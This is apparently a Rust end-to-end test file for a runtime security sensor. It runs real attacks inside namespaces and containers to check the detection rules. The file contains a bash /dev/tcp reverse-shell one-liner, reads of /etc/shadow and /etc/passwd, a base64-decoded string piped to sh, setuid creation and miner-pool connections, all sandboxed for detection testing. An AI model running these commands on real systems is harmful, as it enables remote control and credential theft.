//! `picket up` with the built-in rules: real attacks, each where it harms nobody.

use anyhow::{Context, Result, ensure};
use picket_e2e::binary::CAUSE;
use picket_e2e::container::{self, CAUSE_INSIDE, Container};
use picket_e2e::netns::Netns;
use picket_e2e::sensor::Builder;
use picket_e2e::{Cause, Scratch, Sensor, needs_root, skip_unless};
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Stdio;

fn up(scratch: &Scratch) -> Result<Sensor> {
    Builder::command([
        "up",
        "--format",
        "json",
        "--listen",
        "127.0.0.1:0",
        "--data",
        &scratch.at("data"),
    ])
    .start()
}

#[test]
fn a_real_reverse_shell() -> Result<()> {
    needs_root!();
    let scratch = Scratch::new()?;
    let mut sensor = up(&scratch)?;
    let netns = Netns::new()?;
    let listener = netns.inside(|| Ok(TcpListener::bind("127.0.0.1:0")?))?;
    let port = listener.local_addr()?.port();

    let victim = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let mut victim = netns
        .command(Path::new("/bin/bash"))
        .args(["-c", &victim])
        .stdin(Stdio::null())
        .spawn()?;
    // The attacker's side: what is typed comes back executed.
    let (mut shell, _) = listener.accept()?;
    shell.write_all(b"echo $((6 * 7000 + 1)); exit\n")?;
    let mut output = String::new();
    shell.read_to_string(&mut output)?;
    ensure!(output.contains("42001"), "{output}");
    victim.wait()?;

    let command = format!("/dev/tcp/127.0.0.1/{port}");
    let finding = sensor.finding_where("reverse-shell-dev-tcp", |finding| {
        finding.event().text("process.cmd_line").contains(&command)
    })?;
    // Shipped policies simulate.
    finding
        .response("simulate-reverse-shells")?
        .has("mode", "simulate")?
        .has("kill", true)?;
    let stopped = sensor.stop()?;
    ensure!(
        stopped
            .messages
            .iter()
            .any(|line| line.starts_with("killed: 0")),
        "{:?}",
        stopped.messages
    );
    Ok(())
}

/// What is done in a container, and the rule that must say so. Rules that leave
/// build tools alone are tried in a guest: here `make` may be an ancestor.
const ATTACKS: [(&str, &str); 7] = [
    (
        "web-server-spawned-shell",
        "/usr/sbin/nginx spawn /bin/sh -c 'cat /etc/passwd; true'",
    ),
    (
        "exec-from-memory",
        "/usr/bin/picket-cause memfd payload /usr/bin/picket-cause hold",
    ),
    (
        "exec-deleted-file",
        "cp /usr/bin/picket-cause /tmp/gone; /usr/bin/picket-cause deleted /tmp/gone hold",
    ),
    (
        "miner-pool-port",
        "/usr/bin/picket-cause connect tcp 198.18.0.1 3333; /usr/bin/picket-cause connect tcp 45.9.148.1 3333",
    ),
    (
        "setuid-bit-set",
        "/usr/bin/picket-cause creat /root/suid; /usr/bin/picket-cause chmod /root/suid 4755",
    ),
    ("shadow-file-read", "/bin/cat /etc/shadow"),
    (
        "decoded-text-piped-to-shell",
        "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
    ),
];

#[test]
fn attacks_in_a_container() -> Result<()> {
    needs_root!();
    let missing = container::missing();
    skip_unless!(missing.is_none(), missing.unwrap_or_default());
    let container = Container::with_image(|image| {
        fs::copy(CAUSE, image.join("usr/sbin/nginx"))?;
        fs::write(image.join("etc/shadow"), "root:*:19000:0:99999:7:::\n")?;
        fs::write(image.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n")?;
        Ok(())
    })?;
    let mut sensor = up(container.scratch())?;
    let script: String = ATTACKS
        .iter()
        .map(|(_, attack)| format!("{attack}\n"))
        .collect();
    let output = container.run(&script)?;
    ensure!(
        output.stdout.len() > 10,
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    for (rule, attack) in ATTACKS {
        let of_container =
            |finding: &picket_e2e::Finding| finding.event().text("container.uid") == container.id;
        sensor
            .finding_where(rule, of_container)
            .with_context(|| attack.to_owned())?;
    }
    ensure!(CAUSE_INSIDE == "/usr/bin/picket-cause");
    sensor.stop()?;
    Ok(())
}

#[test]
fn names_that_nobody_should_ask_for() -> Result<()> {
    needs_root!();
    let scratch = Scratch::new()?;
    let mut sensor = up(&scratch)?;
    let netns = Netns::new()?;
    let cause = Cause::new(&scratch, "asker")?.in_netns(&netns);
    let label = "k".repeat(60);
    let tunnel = format!("{label}.{label}.t.example");
    for (rule, name, kind) in [
        ("miner-pool-lookup", "xmr-eu1.nanopool.org", "1"),
        ("dns-tunnel-long-labels", tunnel.as_str(), "16"),
        ("dns-null-query", "t.example", "10"),
    ] {
        let said = cause.act(["dns", "send", "127.0.0.1", "53", name, kind])?;
        sensor
            .finding_where(rule, |f| {
                f.event().number("actor.process.pid") == Some(said.pid().into())
            })?
            .event()
            .has("query.hostname", name)?;
    }
    sensor.stop()?;
    Ok(())
}

#[test]
fn text_for_people_shows_the_tree() -> Result<()> {
    needs_root!();
    let scratch = Scratch::new()?;
    let mut sensor = Builder::command([
        "up",
        "--listen",
        "127.0.0.1:0",
        "--data",
        &scratch.at("data"),
    ])
    .start()?;
    let cause = Cause::new(&scratch, "cause")?;
    let name = format!("payload-{}", std::process::id());
    cause.run(["memfd", &name, &cause.path_text(), "hold"])?;
    let line = sensor.line_with(&name)?;
    ensure!(!line.starts_with('{'), "{line}");
    let text = sensor.stop_text()?;
    let text = text.join("\n");
    ensure!(
        text.contains("exec-from-memory") || line.contains("exec-from-memory"),
        "{line}\n{text}"
    );
    Ok(())
}
